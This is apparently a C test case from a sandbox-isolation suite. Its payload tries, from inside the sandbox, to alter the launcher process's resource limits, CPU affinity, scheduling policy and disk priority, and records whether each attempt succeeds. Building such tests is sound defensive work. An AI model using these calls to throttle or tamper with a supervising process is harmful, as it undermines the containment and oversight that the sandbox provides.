// row: S3
// what: the launcher's own process inside is limited to a second of CPU time, one core and low priority
// control: naive
// off: sandbox.seccomp = "off"
#include "attack.h"

void attack(void) {
    if (getpid() == 1) cannot("the payload itself is process 1");
    struct rlimit limit;
    way("read-limits", 0 == syscall(SYS_prlimit64, 1, RLIMIT_CPU, NULL, &limit));
    struct rlimit files;
    getrlimit(RLIMIT_NOFILE, &files);
    way("open-files", 0 == syscall(SYS_prlimit64, 1, RLIMIT_NOFILE, &files, NULL));
    struct rlimit second = {.rlim_cur = 3600, .rlim_max = 3600};
    way("cpu-time", 0 == syscall(SYS_prlimit64, 1, RLIMIT_CPU, &second, NULL));
    cpu_set_t cores;
    sched_getaffinity(0, sizeof cores, &cores);
    way("core", sched_setaffinity(1, sizeof cores, &cores) == 0);
    struct sched_param none = {0};
    way("policy", sched_setscheduler(1, SCHED_IDLE, &none) == 0);
    way("nice", setpriority(PRIO_PROCESS, 1, 19) == 0);
    way("disk-priority", syscall(SYS_ioprio_set, 1, 1, 3 << 13) == 0);
    judge();
}
